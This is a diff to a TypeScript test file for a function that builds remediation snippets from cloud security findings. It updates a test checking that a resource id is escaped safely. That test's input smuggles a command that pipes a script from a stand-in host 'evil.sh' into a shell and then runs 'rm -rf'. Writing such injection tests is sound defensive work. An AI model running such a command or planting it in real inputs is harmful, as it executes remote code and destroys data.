@@ -215,15 +215,34 @@ describe("factsFor", () => {
     expect(facts.controls).toEqual([{ framework: "ACME", control: "W-1" }]);
   });
 
-  it("escapes a hostile resource name in shell, HCL and JSON snippets", () => {
+  it("uses the id's last segment in commands and the display name in prose", () => {
     const item = makeCase({
-      findings: [makeFinding({ resource: { name: "x; curl evil.sh | sh\nrm -rf /" } })],
+      findings: [
+        makeFinding({
+          title: "Security group allows SSH from 0.0.0.0/0",
+          resource: {
+            id: "arn:aws:ec2:us-east-1:123456789012:security-group/sg-0abc1234def567890",
+            type: "aws.ec2.security-group",
+            name: "web-sg",
+          },
+        }),
+      ],
+    });
+    const facts = defaultKnowledge.factsFor(item);
+    expect(facts.headline).toBe("Security group web-sg allows SSH (port 22) from 0.0.0.0/0");
+    expect(facts.snippets[0]?.code).toContain("--group-id sg-0abc1234def567890 --protocol tcp --port 22");
+  });
+
+  it("escapes a hostile resource id in shell, HCL and JSON snippets", () => {
+    const hostile = "x; curl evil.sh | sh\nrm -rf ~";
+    const item = makeCase({
+      findings: [makeFinding({ resource: { id: `arn:aws:s3:::${hostile}`, name: hostile } })],
     });
     const facts = defaultKnowledge.factsFor(item);
     const bash = facts.snippets.find((snippet) => snippet.language === "bash")?.code ?? "";
-    expect(bash).toContain("--bucket 'x; curl evil.sh | sh rm -rf /'");
+    expect(bash).toContain("--bucket 'x; curl evil.sh | sh rm -rf ~'");
     const hcl = facts.snippets.find((snippet) => snippet.language === "hcl")?.code ?? "";
-    expect(hcl).toContain('bucket                  = "x; curl evil.sh | sh rm -rf /"');
+    expect(hcl).toContain('bucket                  = "x; curl evil.sh | sh rm -rf ~"');
     expect(personalize('{"a":"{{resource.name}}"}', { "resource.name": 'q"}' }, "json")).toBe(
       '{"a":"q\\"}"}',
     );
